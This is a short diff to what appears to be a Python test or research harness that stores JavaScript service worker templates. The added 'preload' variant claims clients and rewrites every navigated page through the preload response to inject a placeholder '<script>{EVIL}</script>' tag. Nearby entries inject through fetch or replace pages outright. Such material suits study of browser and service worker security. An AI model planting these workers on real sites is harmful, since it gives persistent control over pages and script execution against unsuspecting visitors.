@@ -22,6 +22,13 @@ WORKERS = {
   event.respondWith(fetch(event.request).then(async (reply) => new Response(
     (await reply.text()).replace("<title>", {json.dumps(f"<script>{EVIL}</script><title>")}), {{ status: reply.status, headers: {{ "Content-Type": "text/html" }} }})));
 }});""",
+    "preload": """addEventListener("install", () => skipWaiting());
+addEventListener("activate", (event) => event.waitUntil(registration.navigationPreload.enable().then(() => clients.claim())));
+addEventListener("fetch", (event) => {
+  if (event.request.mode !== "navigate") return;
+""" + f"""  event.respondWith(Promise.resolve(event.preloadResponse).then(async (reply) => new Response(
+    (await reply.text()).replace("<title>", {json.dumps(f"<script>{EVIL}</script><title>")}), {{ status: reply.status, headers: {{ "Content-Type": "text/html" }} }})));
+}});""",
     "own": AT_ONCE + f"""addEventListener("fetch", (event) => {{
   if (event.request.mode === "navigate") event.respondWith(new Response({json.dumps(OWN_PAGE)}, {{ headers: {{ "Content-Type": "text/html" }} }}));
 }});""",
